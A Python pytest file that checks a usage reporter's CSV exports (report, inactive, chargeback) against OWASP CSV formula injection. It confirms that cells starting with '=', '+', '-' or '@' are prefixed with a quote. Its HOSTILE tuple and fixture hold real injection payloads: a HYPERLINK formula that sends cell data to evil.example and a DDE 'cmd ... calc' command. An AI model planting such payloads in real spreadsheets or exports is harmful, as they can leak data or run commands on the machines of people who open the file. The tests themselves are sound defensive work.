"""CSV formula injection (OWASP): no usage CSV holds a cell a spreadsheet evaluates.

Cost centers come from the policy and emails from the live org; a cell starting with
``=``, ``+``, ``-`` or ``@`` is written with a leading ``'``. Every usage CSV (report,
inactive, chargeback) is written by ``render_csv``; the end-to-end tests run two of
them on the demo org at its seeding date, ``DEMO_DATE`` (2026-11-25).
"""

from __future__ import annotations

import csv
import io
import shutil

import pytest
from conftest import EXAMPLE_POLICIES, run_cli

from reconciler.sandbox.demo import DEMO_DATE, seed_demo
from reconciler.sandbox.store import SandboxStore
from reconciler.usage.render import Column, Table, View, render_csv

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_render_csv_neutralises_every_formula_start() -> None:
    view = View("t", (), (Table("t", "t", (Column("key", "Key"), Column("cost", "Cost", "cents"),
                                            Column("n", "N", "int")),
                                tuple((h, -150, -3) for h in HOSTILE)),))
    rows = _cells(render_csv(view))[1:]
    assert [r[0] for r in rows] == ["'" + h for h in HOSTILE]
    assert all(r[1] == "-1.50" and r[2] == "-3" for r in rows)  # numbers stay numbers


@pytest.fixture(scope="module")
def hostile_org(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    """Demo sandbox with a live email starting with ``@``, and a policy copy whose
    backend cost center is a HYPERLINK formula; synced once at ``DEMO_DATE``."""
    tmp = tmp_path_factory.mktemp("csvinj")
    sandbox = str(tmp / "sandbox.db")
    store = SandboxStore(sandbox)
    seed_demo(store, DEMO_DATE)
    store.execute("UPDATE users SET email = ? WHERE email = ?",
                  ("@zoe@acme.example", "zoe.unlisted@acme.example"))
    store.close()
    policy = tmp / "policies"
    shutil.copytree(EXAMPLE_POLICIES, policy)
    for path in (policy / "org.yaml", policy / "teams" / "backend.yaml"):
        path.write_text(path.read_text().replace(
            "cost_center: BE-001", "cost_center: '=HYPERLINK(\"http://evil\",\"x\")'"))
    common = ["--policy", str(policy), "--db", str(tmp / "usage.db"),
              "--today", DEMO_DATE.isoformat()]
    res = run_cli("usage", "sync", *common, "--sandbox", sandbox)
    assert res.exit_code == 0, res.stderr
    return {"common": common, "sandbox": sandbox, "policy": policy}


def _no_formula(text: str) -> list[str]:
    cells = [c for row in _cells(text) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
    return cells


def test_chargeback_csv_cost_center_is_inert(hostile_org: dict[str, object]) -> None:
    common = hostile_org["common"]
    assert isinstance(common, list)
    res = run_cli("usage", "chargeback", "--month", "2026-11", *common)
    assert res.exit_code == 0, res.stderr
    assert "'=HYPERLINK(\"http://evil\",\"x\")" in _no_formula(res.stdout)


def test_report_and_inactive_csv_live_email_is_inert(hostile_org: dict[str, object]) -> None:
    common = hostile_org["common"]
    assert isinstance(common, list)
    report = run_cli("usage", "report", "--by", "cost-center", *common, "--format", "csv")
    assert report.exit_code == 0, report.stderr
    assert "'=HYPERLINK(\"http://evil\",\"x\")" in _no_formula(report.stdout)
    inactive = run_cli("usage", "inactive", *common, "--sandbox", str(hostile_org["sandbox"]),
                       "--format", "csv")
    assert inactive.exit_code in (0, 2), inactive.stderr
    assert "'@zoe@acme.example" in _no_formula(inactive.stdout)
